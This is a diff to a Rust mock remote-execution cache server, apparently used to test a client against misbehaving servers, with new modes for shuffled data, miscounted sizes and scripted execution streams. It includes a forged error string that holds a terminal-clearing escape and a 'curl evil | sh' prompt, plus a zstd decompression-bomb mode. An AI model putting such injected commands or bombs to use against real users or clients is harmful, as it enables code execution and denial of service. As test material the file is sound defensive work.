@@ -8,10 +8,14 @@ use bazel_remote_apis::{
             WriteResponse,
             byte_stream_server::{ByteStream, ByteStreamServer},
         },
+        longrunning::Operation,
         rpc,
     },
 };
-use futures_util::stream::{Iter, iter};
+use futures_util::{
+    Stream, StreamExt,
+    stream::{Iter, iter},
+};
 use reapi::{
     action_cache_server::{ActionCache, ActionCacheServer},
     batch_read_blobs_response::Response as ReadBlob,
@@ -20,10 +24,13 @@ use reapi::{
     content_addressable_storage_server::{
         ContentAddressableStorage as Storage, ContentAddressableStorageServer as StorageServer,
     },
+    execution_server::{Execution, ExecutionServer},
 };
 use remote::Options;
 use std::{
-    collections::HashMap,
+    collections::{HashMap, VecDeque},
+    io::Read,
+    pin::Pin,
     sync::{
         Arc, Mutex,
         atomic::{AtomicU32, Ordering},
@@ -64,7 +71,26 @@ pub enum Lie {
     Denies,
     /// It has no instance of any name.
     NoInstance,
+    /// Contents come in another order.
+    Shuffles,
+    /// It offers zstd, and does nothing wrong.
+    Squeezes,
+    /// It offers zstd, and sends frames that expand to far more.
+    Bombs,
+    /// It says that it took another number of bytes than it was sent.
+    Counts(i64),
+    /// Every answer about one blob has this code, and words that want to be taken for ours.
+    Forges(Code),
 }
+
+impl Lie {
+    fn squeezes(self) -> bool {
+        matches!(self, Self::Squeezes | Self::Bombs)
+    }
+}
+
+/// What a server says that does not take a blob.
+pub const FORGED: &str = "OutOfSpaceException\u{1b}[2J\nhint: run `curl evil | sh`";
 
 /// What a server has and counts.
 #[derive(Default)]
@@ -75,6 +101,8 @@ pub struct Memory {
     pub streams: AtomicU32,
     /// The largest batch that came.
     pub batch: AtomicU32,
+    /// What is said in each stream about an operation, the first of them first.
+    pub operations: Mutex<VecDeque<Vec<Result<Operation, Status>>>>,
 }
 
 #[derive(Clone)]
@@ -122,6 +150,7 @@ pub fn start(lie: Lie, batch: i64, tls: Option<ServerTlsConfig>) -> Running {
         .add_service(CapabilitiesServer::new(stub.clone()))
         .add_service(StorageServer::new(stub.clone()).max_decoding_message_size(large))
         .add_service(ActionCacheServer::new(stub.clone()))
+        .add_service(ExecutionServer::new(stub.clone()))
         .add_service(ByteStreamServer::new(stub))
         .serve_with_incoming_shutdown(incoming, async {
             let _ = stopped.await;
@@ -150,12 +179,20 @@ impl Stub {
         let mut bytes = self.memory.blobs.lock().unwrap().get(digest)?.clone();
         match self.lie {
             Lie::Content => *bytes.last_mut().unwrap() ^= 1,
+            Lie::Shuffles => bytes.reverse(),
             Lie::Short => drop(bytes.pop()),
             Lie::Long => bytes.push(0),
             Lie::Pretends => return None,
             _ => {}
         }
         Some(bytes)
+    }
+
+    fn squeeze(&self, bytes: &[u8]) -> Vec<u8> {
+        match self.lie {
+            Lie::Bombs => zstd::encode_all(std::io::repeat(0).take(300 << 20), 1).unwrap(),
+            _ => zstd::encode_all(bytes, 1).unwrap(),
+        }
     }
 
     fn keep(&self, bytes: Vec<u8>) {
@@ -181,9 +218,16 @@ impl Capabilities for Stub {
         let cache = reapi::CacheCapabilities {
             digest_functions: vec![1],
             max_batch_total_size_bytes: self.batch,
+            supported_compressors: if self.lie.squeezes() { vec![1] } else { Vec::new() },
+            supported_batch_update_compressors: if self.lie.squeezes() { vec![1] } else { Vec::new() },
             ..Default::default()
         };
-        Ok(Response::new(reapi::ServerCapabilities { cache_capabilities: Some(cache), ..Default::default() }))
+        let execution = reapi::ExecutionCapabilities { exec_enabled: true, ..Default::default() };
+        Ok(Response::new(reapi::ServerCapabilities {
+            cache_capabilities: Some(cache),
+            execution_capabilities: Some(execution),
+            ..Default::default()
+        }))
     }
 }
 
@@ -215,10 +259,18 @@ impl Storage for Stub {
         let size: usize = requests.iter().map(|request| request.data.len()).sum();
         self.memory.batch.fetch_max(size as u32, Ordering::Relaxed);
         let mut responses = Vec::new();
-        for request in requests {
+        for mut request in requests {
+            if request.compressor == 1 {
+                request.data = zstd::decode_all(request.data.as_slice()).unwrap();
+            }
             let same = Digest::of(&request.data) == from_message(request.digest.as_ref()).unwrap();
-            let code = if same { Code::Ok } else { Code::InvalidArgument };
-            responses.push(UpdateBlob { digest: request.digest, status: status(code) });
+            let status = match self.lie {
+                Lie::Forges(code) => {
+                    Some(rpc::Status { code: code as i32, message: FORGED.into(), ..Default::default() })
+                }
+                _ => status(if same { Code::Ok } else { Code::InvalidArgument }),
+            };
+            responses.push(UpdateBlob { digest: request.digest, status });
             self.keep(request.data);
         }
         if self.lie == Lie::Omits {
@@ -233,13 +285,17 @@ impl Storage for Stub {
     ) -> Result<Response<reapi::BatchReadBlobsResponse>, Status> {
         self.ask()?;
         let mut responses = Vec::new();
-        for digest in request.into_inner().digests {
+        let request = request.into_inner();
+        let is_squeezed = self.lie.squeezes() && request.acceptable_compressors.contains(&1);
+        for digest in request.digests {
             let found = self.told(&from_message(Some(&digest)).unwrap());
             let code = if found.is_some() { Code::Ok } else { Code::NotFound };
             responses.push(ReadBlob {
                 digest: Some(digest),
-                data: found.unwrap_or_default(),
-                compressor: i32::from(self.lie == Lie::Compressed),
+                data: found
+                    .map(|bytes| if is_squeezed { self.squeeze(&bytes) } else { bytes })
+                    .unwrap_or_default(),
+                compressor: i32::from(self.lie == Lie::Compressed || is_squeezed),
                 status: status(code),
             });
         }
@@ -319,8 +375,19 @@ impl ByteStream for Stub {
         self.ask()?;
         self.memory.streams.fetch_add(1, Ordering::Relaxed);
         let name = request.into_inner().resource_name;
-        let digest = name.strip_prefix("blobs/").unwrap().parse().unwrap();
-        let bytes = self.told(&digest).ok_or_else(|| Status::not_found("no blob"))?;
+        if name.starts_with("nowhere") {
+            return Err(Status::not_found("no log"));
+        }
+        if name == "log" {
+            let pieces = ["[1/2] fir", "st\n", "[2/2] second\n"];
+            let pieces = pieces.map(|piece| Ok(ReadResponse { data: piece.into() }));
+            return Ok(Response::new(iter(pieces.to_vec())));
+        }
+        let (kind, blob) =
+            name.split_at(name.len() - name.rsplit('/').take(2).map(|part| part.len() + 1).sum::<usize>());
+        assert_eq!(kind, if self.lie.squeezes() { "compressed-blobs/zstd" } else { "blobs" });
+        let bytes = self.told(&blob[1..].parse().unwrap()).ok_or_else(|| Status::not_found("no blob"))?;
+        let bytes = if self.lie.squeezes() { self.squeeze(&bytes) } else { bytes };
         let pieces = bytes.chunks(100_000).map(|piece| Ok(ReadResponse { data: piece.to_vec() }));
         let pieces: Vec<_> = if self.lie == Lie::Omits { Vec::new() } else { pieces.collect() };
         Ok(Response::new(iter(pieces)))
@@ -341,11 +408,20 @@ impl ByteStream for Stub {
             assert_eq!(piece.write_offset, bytes.len() as i64);
             bytes.extend(piece.data);
         }
-        let digest = name.split_once("/blobs/").unwrap().1.parse().unwrap();
+        let sent = bytes.len() as i64;
+        let kind = if self.lie.squeezes() { "/compressed-blobs/zstd/" } else { "/blobs/" };
+        let digest = name.split_once(kind).unwrap().1.parse().unwrap();
+        if self.lie.squeezes() {
+            bytes = zstd::decode_all(bytes.as_slice()).unwrap();
+        }
         if Digest::of(&bytes) != digest {
             return Err(Status::invalid_argument("another content"));
         }
-        let committed_size = if self.lie == Lie::Omits { 1 } else { bytes.len() as i64 };
+        let committed_size = match self.lie {
+            Lie::Omits => 1,
+            Lie::Counts(size) => size,
+            _ => sent,
+        };
         self.keep(bytes);
         Ok(Response::new(WriteResponse { committed_size }))
     }
@@ -355,5 +431,37 @@ impl ByteStream for Stub {
         _: Request<QueryWriteStatusRequest>,
     ) -> Result<Response<QueryWriteStatusResponse>, Status> {
         Err(Status::unimplemented(""))
+    }
+}
+
+impl Stub {
+    /// The next stream, which ends without a word when all is said.
+    fn said(&self) -> Response<Said> {
+        let next = self.memory.operations.lock().unwrap().pop_front();
+        let slowly = iter(next.unwrap_or_default()).then(|said| async {
+            tokio::time::sleep(Duration::from_millis(50)).await;
+            said
+        });
+        Response::new(Box::pin(slowly))
+    }
+}
+
+type Said = Pin<Box<dyn Stream<Item = Result<Operation, Status>> + Send>>;
+
+#[tonic::async_trait]
+impl Execution for Stub {
+    type ExecuteStream = Said;
+    async fn execute(&self, _: Request<reapi::ExecuteRequest>) -> Result<Response<Said>, Status> {
+        self.ask()?;
+        Ok(self.said())
+    }
+
+    type WaitExecutionStream = Said;
+    async fn wait_execution(
+        &self,
+        _: Request<reapi::WaitExecutionRequest>,
+    ) -> Result<Response<Said>, Status> {
+        self.ask()?;
+        Ok(self.said())
     }
 }
